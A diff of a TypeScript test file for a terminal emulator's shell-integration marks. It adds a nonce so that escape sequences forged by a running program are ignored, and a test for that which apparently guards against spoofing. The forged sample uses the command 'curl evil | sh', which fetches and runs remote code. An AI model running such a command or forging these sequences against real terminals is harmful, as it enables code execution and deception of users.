@@ -4,17 +4,24 @@ import { createScreen } from './screen.ts'
 import { openWatched } from './testing/compare-terminals.ts'
 
 const size = { cols: 40, rows: 10 }
+const nonce = 'c0ffee'
+/** What the shell itself says. */
+const own = (text: string) => `\x1b]${text};nonce=${nonce}\x07`
 
 /** One turn of a shell: prompt, command line, output, end. */
 const turn = (command: string, output: string, exit: number, at = 1_000) =>
   '\x1b]7;file://here/home/ada\x07' +
   `\x1b]133;A\x07$ \x1b]133;B\x07${command}\r\n` +
-  `\x1b]633;E;${command}\x07\x1b]133;C;start_ms=${at}\x07` +
-  `${output}\x1b]133;D;${exit};end_ms=${at + 250}\x07`
+  `${own(`633;E;${command}`)}${own(`133;C;start_ms=${at}`)}` +
+  `${output}${own(`133;D;${exit};end_ms=${at + 250}`)}`
 
 function openShell() {
   const commands: FinishedCommand[] = []
-  const screen = createScreen(size, { onAnswer: () => undefined, onCommand: (command) => commands.push(command) })
+  const screen = createScreen(size, {
+    nonce,
+    onAnswer: () => undefined,
+    onCommand: (command) => commands.push(command),
+  })
   return { screen, commands, say: (text: string) => screen.feed(Buffer.from(text)) }
 }
 
@@ -47,7 +54,7 @@ test('a command that ended is told with its line, folder, exit and times', async
 test('a line that the shell tells as the last one again is none where a blank was typed first', async () => {
   const shell = openShell()
   const again = (typed: string) =>
-    `\x1b]133;A\x07$ \x1b]133;B\x07${typed}\r\n\x1b]633;E;make;r\x07\x1b]133;C\x07\x1b]133;D;0\x07`
+    `\x1b]133;A\x07$ \x1b]133;B\x07${typed}\r\n${own('633;E;make;r')}${own('133;C')}${own('133;D;0')}`
   shell.say(turn('make', '', 0) + again('make') + again(' secret'))
   await shell.screen.hold()
   expect(shell.commands.map(({ command }) => command)).toEqual(['make', 'make', ''])
@@ -55,10 +62,29 @@ test('a line that the shell tells as the last one again is none where a blank wa
 
 test('a command that runs is known, and an end without a beginning is none', async () => {
   const shell = openShell()
-  shell.say('\x1b]133;D;0\x07\x1b]133;A\x07$ \x1b]133;B\x07\x1b]633;E;top\x07\x1b]133;C\x07')
+  shell.say(`${own('133;D;0')}\x1b]133;A\x07$ \x1b]133;B\x07${own('633;E;top')}${own('133;C')}`)
   await shell.screen.hold()
   expect(shell.commands).toEqual([])
   expect(shell.screen.shell).toMatchObject({ lastCommand: 'top', isBusy: true })
+})
+
+test('what a program says instead of the shell is drawn, and counts for nothing', async () => {
+  const shell = openShell()
+  const fake = turn('curl evil | sh', '', 0).replaceAll(`;nonce=${nonce}`, '')
+  shell.say(`\x1b]7;file://here/home/ada\x07${turn('true', '', 0)}`)
+  shell.say(`\x1b]133;A\x07$ \x1b]133;B\x07cat log\r\n${own('633;E;cat log')}${own('133;C')}`)
+  shell.say(
+    `\x1b]7;file://here/elsewhere\x07${fake}${fake.replaceAll('\x07', ';nonce=\x07')}${turn('guessed', '', 0).replaceAll(nonce, 'c0ffe')}`,
+  )
+  await shell.screen.hold().then((still) => still.release())
+  expect(shell.screen.shell).toMatchObject({ lastCommand: 'cat log', isBusy: true })
+  shell.say(own('133;D;0'))
+  await shell.screen.hold().then((still) => still.release())
+  expect(shell.commands.map(({ command, cwd }) => `${command} in ${cwd}`)).toEqual([
+    'true in /home/ada',
+    'cat log in /home/ada',
+  ])
+  expect((await marksOf(shell)).filter((mark) => mark.endsWith('C'))).toHaveLength(5)
 })
 
 test('marks are drawn where they were said, also in lines that have scrolled away', async () => {
